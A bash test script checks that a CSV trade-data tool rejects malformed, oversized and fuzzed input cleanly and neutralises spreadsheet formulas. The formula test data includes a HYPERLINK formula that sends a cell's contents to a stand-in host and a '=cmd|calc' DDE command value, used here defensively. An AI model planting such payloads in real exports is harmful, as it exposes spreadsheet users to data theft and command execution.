#!/usr/bin/env bash
# hostile.sh - every kind of bad input of issue 7, fed to every command that
# reads observations (validate, cat, and growth, stats, fit, rank, check once
# they are implemented): each must exit 1 (bad data) or 2 (usage, I/O) with
# FILE:LINE:COLUMN: message naming the exact place, never a signal; -o must
# leave an existing file intact and no temporary file behind; a full disk
# (/dev/full) is exit 2; a 300 MB field is refused under ulimit -v; a bad row
# at line 120,002 of a large file is found at that line.
#
# Expected lines and columns are counted by hand from the files in
# tests/data/hostile/ (header "reporter,partner,flow,period,value,unit,source":
# reporter starts at column 1, partner 5, flow 9; with flow "export" period
# starts at 16, value at 21). Set TRADE_VALGRIND=1 to run it under valgrind.
set -u
: "${TRADE:?}" "${SRCDIR:?}"
. "$SRCDIR/tests/cli/lib.sh"
data=$SRCDIR/tests/data/hostile
# Under valgrind every run costs a second or more: the repeated variants
# (stdin, -o, the large file, the other commands) run for a few commands only.
full() { [ "${TRADE_VALGRIND:-0}" != 1 ] || [ "$1" = cat ] || [ "$1" = growth ] || [ "$1" = validate ]; }
# ... and the other commands see a few kinds of bad file (each reads through
# the same reader; valgrind looks at their own code on the way out)
sample() {
    full "$1" && return 0
    case $2 in value_nan.csv | duplicate_column.csv | unterminated_quote.csv | invalid_utf8.csv | conflicting_duplicate.csv) return 0 ;; esac
    return 1
}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; lib_cleanup' EXIT
pass=0 fail=0
ok() { pass=$((pass + 1)); }
bad() { echo "FAIL: $*" >&2; fail=$((fail + 1)); }

# run CODE PATTERN -- command...: exit code CODE (or "12": 1 or 2) and a
# stderr line matching the extended regex PATTERN.
run() {
    local code=$1 pat=$2
    shift 3
    "$@" >"$tmp/out" 2>"$tmp/err" </dev/null
    local rc=$?
    if [ "$rc" -gt 128 ]; then bad "$* died of signal $((rc - 128))"; return; fi
    case $code in
    12) [ "$rc" -eq 1 ] || [ "$rc" -eq 2 ] || { bad "$* exited $rc, want 1 or 2"; return; } ;;
    *) [ "$rc" -eq "$code" ] || { bad "$* exited $rc, want $code: $(head -3 "$tmp/err")"; return; } ;;
    esac
    if [ -n "$pat" ] && ! grep -qE -- "$pat" "$tmp/err"; then
        bad "$*: stderr lacks /$pat/: $(head -3 "$tmp/err")"
        return
    fi
    ok
}

# The commands that read observation files; the later ones join as they land.
cmds=(validate cat)
for c in growth stats fit rank check; do
    if "$TRADE_REAL" "$c" --help >/dev/null 2>&1; then cmds+=("$c"); fi
done
echo "commands: ${cmds[*]}"

# file | exit code | message after "FILE:" (an extended regex; the line and
# column are part of it)
cases=(
    "empty.csv|1|1:1: empty file: a header row is required"
    "header_only.csv|1|2:1: no rows after the header"
    "missing_value_column.csv|1|1:1: missing required column 'value'"
    "duplicate_column.csv|1|1:48: duplicate column name 'value'"
    "unterminated_quote.csv|1|3:21: unterminated quoted field"
    "stray_quote.csv|1|3:22: malformed CSV"
    "too_many_fields.csv|1|3:37: too many fields: the header has 7"
    "too_few_fields.csv|1|3:1: too few fields: 6 of 7"
    "nul_byte.csv|1|3:24: NUL byte in input"
    "invalid_utf8.csv|1|3:35: invalid UTF-8 in field 7"
    "overlong_utf8.csv|1|3:35: invalid UTF-8 in field 7"
    "value_exponent.csv|1|3:21: value: '1e999' is not a plain finite decimal number"
    "value_nan.csv|1|3:21: value: 'nan' is not a plain finite decimal number"
    "value_inf.csv|1|3:21: value: 'inf' is not a plain finite decimal number"
    "value_hex.csv|1|3:21: value: '0x10' is not a plain finite decimal number"
    "value_thousands.csv|1|3:21: value: '1,234' is not a plain finite decimal number"
    "value_space.csv|1|3:21: value: ' 12' is not a plain finite decimal number"
    "value_empty.csv|1|3:21: value: '' is not a plain finite decimal number"
    "period_month13.csv|1|3:21: period: month must be 01 to 12: '2012-13'"
    "period_backwards.csv|1|3:24: period: interval must end after it starts: '2012-02/2011-01'"
    "period_year0.csv|1|3:16: period: year 0 does not exist: '0000'"
    "unknown_reporter.csv|1|3:1: reporter: unknown country code 'XXX'"
    "unknown_flow.csv|1|3:9: flow: unknown flow 'smuggling'"
    "unknown_unit.csv|1|3:23: unit: unknown unit 'XYZ'"
    "conflicting_duplicate.csv|1|3:21: conflicting duplicate"
    # the quoted newline in row 3 makes the bad row start on physical line 5
    "quoted_newline_then_bad.csv|1|5:21: value: '1.2.3' is not a plain finite decimal number"
    # lines end at LF, CRLF or a lone CR (as libcsv's rows do): CR-only
    # endings, and a quoted "x CRLF y CR z" spanning lines 2 to 4
    "cr_only_nan.csv|1|3:21: value: 'nan' is not a plain finite decimal number"
    "crlf_quoted_then_nan.csv|1|5:21: value: 'nan' is not a plain finite decimal number"
)

# A file every command accepts, to prove the cases fail for their content.
for c in "${cmds[@]}"; do
    run 0 "" -- "$TRADE" "$c" "$data/good_bom_crlf.csv"
done

for c in "${cmds[@]}"; do
    for k in "${cases[@]}"; do
        IFS='|' read -r file code msg <<<"$k"
        f=$data/$file
        sample "$c" "$file" || continue
        # the message, located (regex-escape the path)
        p=$(printf '%s' "$f" | sed 's/[.[\*^$()+?{|]/\\&/g')
        if [ "$c" = rank ] && [ "$file" = missing_value_column.csv ]; then
            # rank reads any CSV and ranks by --by (default value): a usage error
            run 2 "no column 'value'" -- "$TRADE" "$c" "$f"
            continue
        fi
        run "$code" "^$p:$msg" -- "$TRADE" "$c" "$f"
        full "$c" || continue
        # from stdin, named '-'
        run "$code" "^-:$msg" -- sh -c "exec '$TRADE' $c <'$f'"
        # -o leaves an existing file intact and no temporary file behind
        if [ "$c" != validate ]; then
            mkdir -p "$tmp/o" && echo precious >"$tmp/o/out.csv"
            run "$code" "^$p:$msg" -- "$TRADE" "$c" "$f" -o "$tmp/o/out.csv"
            [ "$(cat "$tmp/o/out.csv")" = precious ] && ok || bad "$c $file -o: existing file changed"
            [ "$(ls -A "$tmp/o")" = out.csv ] && ok || bad "$c $file -o: left $(ls -A "$tmp/o")"
        fi
    done
done

# Two files: the bad one second; the message names it.
for c in "${cmds[@]}"; do
    run 1 "^$data/value_nan\.csv:3:21: value" -- "$TRADE" "$c" "$data/good_bom_crlf.csv" "$data/value_nan.csv"
done

# Unreadable inputs: exit 2 with the file named.
for c in "${cmds[@]}"; do
    run 2 "^$tmp/missing\.csv: cannot open" -- "$TRADE" "$c" "$tmp/missing.csv"
    run 2 "^$tmp: read error" -- "$TRADE" "$c" "$tmp"
    run 2 "" -- "$TRADE" "$c" --no-such-option "$data/good_bom_crlf.csv"
done

# Field length: --max-field, and a 300 MB field from a pipe under a 200 MB
# address-space limit (the reader must refuse it without holding it).
big() { # header, one good row, then a row whose value is N digits
    printf 'reporter,partner,flow,period,value,unit,source\nBEL,KAZ,export,2010,1,EUR,a\nBEL,KAZ,export,2011,'
    head -c "$1" /dev/zero | tr '\0' 7
    printf ',EUR,a\n'
}
big 2000 >"$tmp/long.csv"
for c in "${cmds[@]}"; do
    run 1 "^$tmp/long\.csv:3:21: field longer than the limit of 1000 bytes" -- "$TRADE" "$c" --max-field 1000 "$tmp/long.csv"
    run 2 "max-field" -- "$TRADE" "$c" --max-field 0 "$tmp/long.csv"
    run 2 "max-field" -- "$TRADE" "$c" --max-field 1k "$tmp/long.csv"
done
# (an AddressSanitizer build cannot start under ulimit -v: skip it there)
if ! (ulimit -v 200000 && exec "$TRADE_REAL" --version) >/dev/null 2>&1; then
    echo "skipping the ulimit -v cases: trade does not start under ulimit -v 200000 (sanitizer build?)"
else
for c in validate cat; do
    big 300000000 | (ulimit -v 200000 && exec "$TRADE_REAL" "$c" - >/dev/null 2>"$tmp/err")
    rc=$?
    [ "$rc" -eq 1 ] && grep -qE '^-:3:21: field longer than the limit of 1048576 bytes' "$tmp/err" &&
        ok || bad "300 MB field, trade $c: exit $rc: $(head -2 "$tmp/err")"
done

# with the limit raised past the memory there is, memory runs out: exit 2
# with the place of the field, not a crash
big 300000000 | (ulimit -v 200000 && exec "$TRADE_REAL" validate --max-field 400000000 - 2>"$tmp/err")
rc=$?
[ "$rc" -eq 2 ] && grep -qE '^-:3:21: out of memory in a field' "$tmp/err" &&
    ok || bad "300 MB field with --max-field 400000000: exit $rc: $(head -2 "$tmp/err")"
fi

# A header of 100,000 columns is refused at once (names are compared
# pairwise), at the 10,001st; 10,000 columns are read.
python3 - "$tmp" <<'PY'
import sys
d = sys.argv[1]
req = ['reporter', 'partner', 'flow', 'period', 'value', 'unit']
names = req + ['c%d' % i for i in range(100000 - 6)]
with open(d + '/wide.csv', 'w') as f:
    f.write(','.join(names) + '\n' + 'BEL,KAZ,export,2010,1,EUR' + ',x' * (len(names) - 6) + '\n')
# byte column where the 10,001st name starts
with open(d + '/wide.col', 'w') as f:
    f.write(str(len(','.join(names[:10000])) + 2))
names = names[:10000]
with open(d + '/wide10k.csv', 'w') as f:
    f.write(','.join(names) + '\n' + 'BEL,KAZ,export,2010,1,EUR' + ',x' * (len(names) - 6) + '\n')
PY
for c in validate cat; do
    run 1 "^$tmp/wide\.csv:1:$(cat "$tmp/wide.col"): too many columns: more than 10000" -- timeout 20 "$TRADE" "$c" "$tmp/wide.csv"
    run 0 "" -- timeout 60 "$TRADE" "$c" "$tmp/wide10k.csv"
done

# A bad row at line 120,002 of a large file: header on line 1, 120,000 good
# rows on lines 2..120001 (distinct sources, so no duplicates), the bad row,
# then ten more good rows.
awk 'BEGIN {
    print "reporter,partner,flow,period,value,unit,source"
    for (i = 1; i <= 120000; i++) printf "BEL,KAZ,export,2010,%d,EUR,s%d\n", i, i
    print "BEL,KAZ,export,2010,12x,EUR,bad"
    for (i = 1; i <= 10; i++) printf "BEL,KAZ,export,2011,%d,EUR,t%d\n", i, i
}' >"$tmp/large.csv"
[ "$(sed -n 120002p "$tmp/large.csv")" = "BEL,KAZ,export,2010,12x,EUR,bad" ] && ok || bad "large file not as planned"
for c in "${cmds[@]}"; do
    full "$c" || continue
    echo precious >"$tmp/o/out.csv"
    out=(-o "$tmp/o/out.csv")
    [ "$c" = validate ] && out=() # validate writes no rows and refuses -o
    run 1 "^$tmp/large\.csv:120002:21: value: '12x' is not a plain finite decimal number" -- "$TRADE" "$c" "$tmp/large.csv" "${out[@]}"
    [ "$(cat "$tmp/o/out.csv")" = precious ] && ok || bad "$c large -o: existing file changed"
done

# Writing: /dev/full as -o and as stdout is an I/O error (exit 2), as is a
# folder that does not exist; a failed write leaves nothing behind.
for c in "${cmds[@]}"; do
    [ "$c" = validate ] && continue
    run 2 "" -- "$TRADE" "$c" "$data/good_bom_crlf.csv" -o /dev/full
    run 2 "" -- sh -c "exec '$TRADE' $c '$data/good_bom_crlf.csv' >/dev/full"
    run 2 "" -- "$TRADE" "$c" "$data/good_bom_crlf.csv" -o "$tmp/no/such/dir/out.csv"
    for fmt in tsv jsonl; do
        # check writes no JSON line when it finds nothing to compare
        [ "$c/$fmt" = check/jsonl ] && continue
        run 2 "" -- sh -c "exec '$TRADE' $c --format $fmt '$data/good_bom_crlf.csv' >/dev/full"
    done
done
# a large output to /dev/full (more than any stdio buffer)
awk 'BEGIN { print "reporter,partner,flow,period,value,unit,source"
    for (i = 1; i <= 20000; i++) printf "BEL,KAZ,export,2010,%d,EUR,s%d\n", i, i }' >"$tmp/many.csv"
run 2 "" -- sh -c "exec '$TRADE' cat '$tmp/many.csv' >/dev/full"
run 2 "" -- "$TRADE" cat "$tmp/many.csv" -o /dev/full
# success replaces the file whole
echo precious >"$tmp/o/out.csv"
run 0 "" -- "$TRADE" cat "$tmp/many.csv" -o "$tmp/o/out.csv"
[ "$(wc -l <"$tmp/o/out.csv")" -eq 20001 ] && ok || bad "cat -o many: $(wc -l <"$tmp/o/out.csv") lines"
[ "$(ls -A "$tmp/o")" = out.csv ] && ok || bad "cat -o many: left $(ls -A "$tmp/o")"

# a replaced file keeps its permissions (a private file stays private)
echo secret >"$tmp/o/private.csv" && chmod 600 "$tmp/o/private.csv"
run 0 "" -- "$TRADE" cat "$data/good_bom_crlf.csv" -o "$tmp/o/private.csv"
[ "$(stat -c %a "$tmp/o/private.csv")" = 600 ] && ok || bad "-o changed a 600 file to $(stat -c %a "$tmp/o/private.csv")"
rm -f "$tmp/o/private.csv"

# Spreadsheet safety: text cells starting with = + - @ tab or CR get a
# leading ', numbers stay numbers (-1700000, -0.25), --raw writes them as read.
# Expected output written by hand from formulas.csv (RFC 4180 quoting).
{
    echo 'reporter,partner,flow,period,value,unit,source,note,label'
    echo 'BEL,KAZ,export,2010,-1700000,EUR,a,"'"'"'=HYPERLINK(""http://x.example/?""&A1)","'"'"'+1"'
    echo 'BEL,KAZ,import,2010,3.5,EUR,a,"'"'"'@SUM(A1:A2)","'"'"'-2+3"'
    printf '%s\n' "BEL,KAZ,import,2011,-0.25,EUR,a,\"'	TAB\",\"'"$'\r'"CR\""
    echo 'BEL,KAZ,fdi_stock,2010,12,EUR,a,"'"'"'-",plain text'
} >"$tmp/want_safe.csv"
run 0 "" -- "$TRADE" cat "$data/formulas.csv" -o "$tmp/safe.csv"
cmp -s "$tmp/safe.csv" "$tmp/want_safe.csv" && ok || bad "cat does not neutralise formulas: $(diff "$tmp/want_safe.csv" "$tmp/safe.csv" | head -5)"
# --raw: the cells as read (compare through python's csv module, which
# parses both independently of our writer)
run 0 "" -- "$TRADE" cat --raw "$data/formulas.csv" -o "$tmp/raw.csv"
python3 - "$data/formulas.csv" "$tmp/raw.csv" "$tmp/safe.csv" <<'PY' && ok || bad "--raw / neutralised cells differ from the input"
import csv, sys
read = lambda p: list(csv.reader(open(p, newline='', encoding='utf-8')))
src, raw, safe = map(read, sys.argv[1:])
assert raw == src, (raw, src)
for s, w in zip(src[1:], safe[1:]):
    for a, b in zip(s, w):
        if a[:1] in ('=', '+', '-', '@', '\t', '\r') and a not in ('-1700000', '-0.25'):
            assert b == "'" + a, (a, b)
        else:
            assert b == a, (a, b)
PY
# TSV too (tab and CR inside a cell are written as \t and \r)
"$TRADE" cat --format tsv "$data/formulas.csv" >"$tmp/safe.tsv" 2>"$tmp/err"
printf '%s\t%s\t%s\n' "-1700000" "'=HYPERLINK(\"http://x.example/?\"&A1)" "'+1" \
    "3.5" "'@SUM(A1:A2)" "'-2+3" "-0.25" "'\\tTAB" "'\\rCR" "12" "'-" "plain text" >"$tmp/want.tsv"
cut -f5,8,9 "$tmp/safe.tsv" | tail -n +2 | cmp -s - "$tmp/want.tsv" && ok ||
    bad "tsv does not neutralise formulas: $(cut -f5,8,9 "$tmp/safe.tsv" | tail -n +2 | diff "$tmp/want.tsv" - | head -4)"
# every row-writing command neutralises too (the source column carries the text)
sed 's/,a$/,=cmd|calc/; s/,a,/,=cmd|calc,/' "$data/good_bom_crlf.csv" >"$tmp/src_formula.csv"
for c in "${cmds[@]}"; do
    [ "$c" = validate ] && continue
    "$TRADE" "$c" "$tmp/src_formula.csv" >"$tmp/out" 2>"$tmp/err"
    if grep -q '^=\|,=' "$tmp/out"; then bad "$c writes a formula cell: $(grep -m1 '=' "$tmp/out")"; else ok; fi
done

# Every other command line that reads a file: any hostile file gives 0, 1
# or 2, never a signal or another code (exact messages are the commands' own
# tests). Convert's rates file and report's folder are hostile too.
others=()
for sub in balance coverage total share hhi index mirror; do others+=("compare $sub"); done
others+=("convert --to USD --rates @" "plot line -o $tmp/p.gp" "plot bars -o $tmp/p.gp"
    "plot growth -o $tmp/p.gp" "plot rank -o $tmp/p.gp" "extract" "import baci"
    "import comtrade" "import merge")
for o in "${others[@]}"; do
    set -- $o
    "$TRADE_REAL" "$1" --help >/dev/null 2>&1 || continue
    for f in "$data"/*.csv; do
        if [ "${TRADE_VALGRIND:-0}" = 1 ]; then
            case ${f##*/} in value_nan.csv | too_many_fields.csv | formulas.csv) ;; *) continue ;; esac
        fi
        if [[ $o == *@* ]]; then
            args=("${@/@/$f}" "$data/good_bom_crlf.csv")
        else
            args=("$@" "$f")
        fi
        "$TRADE" "${args[@]}" >/dev/null 2>"$tmp/err" </dev/null
        rc=$?
        [ "$rc" -le 2 ] && ok || bad "trade ${args[*]}: exit $rc: $(head -2 "$tmp/err")"
    done
done
mkdir -p "$tmp/ds" && cp "$data/value_nan.csv" "$data/good_bom_crlf.csv" "$tmp/ds/"
if "$TRADE_REAL" report --help >/dev/null 2>&1; then
    run 1 "value_nan\.csv:3:21: value" -- "$TRADE" report "$tmp/ds" -o "$tmp/rep" --no-render
fi

# 3 MB of pseudo-random bytes and a 2-million-digit number: every command
# answers within 60 s with 0, 1 or 2
python3 -c "
import random, sys
random.seed(7)
sys.stdout.buffer.write(bytes(random.getrandbits(8) for _ in range(3000000)))" >"$tmp/random.bin"
python3 -c "print('reporter,partner,flow,period,value,unit\nBEL,KAZ,export,2010,' + '9' * 2000000 + ',EUR')" >"$tmp/digits.csv"
for c in "${cmds[@]}" extract; do
    full "$c" || continue
    "$TRADE_REAL" "$c" --help >/dev/null 2>&1 || continue
    for f in "$tmp/random.bin" "$tmp/digits.csv"; do
        timeout 60 "$TRADE" "$c" "$f" >/dev/null 2>"$tmp/err"
        rc=$?
        [ "$rc" -le 2 ] && ok || bad "trade $c ${f##*/}: exit $rc: $(head -2 "$tmp/err")"
    done
done

# Arbitrary bytes (the fuzz corpus, without its mode byte) never kill trade.
for f in "$SRCDIR"/tests/fuzz/corpus/table/*; do
    tail -c +2 "$f" >"$tmp/fz.csv"
    for c in validate cat; do
        [ "${TRADE_VALGRIND:-0}" = 1 ] && [ "$c" = cat ] && continue
        "$TRADE" "$c" "$tmp/fz.csv" >/dev/null 2>&1
        rc=$?
        [ "$rc" -le 2 ] && ok || bad "trade $c on $(basename "$f"): exit $rc"
    done
done

lib_valgrind_check || fail=$((fail + 1))
echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
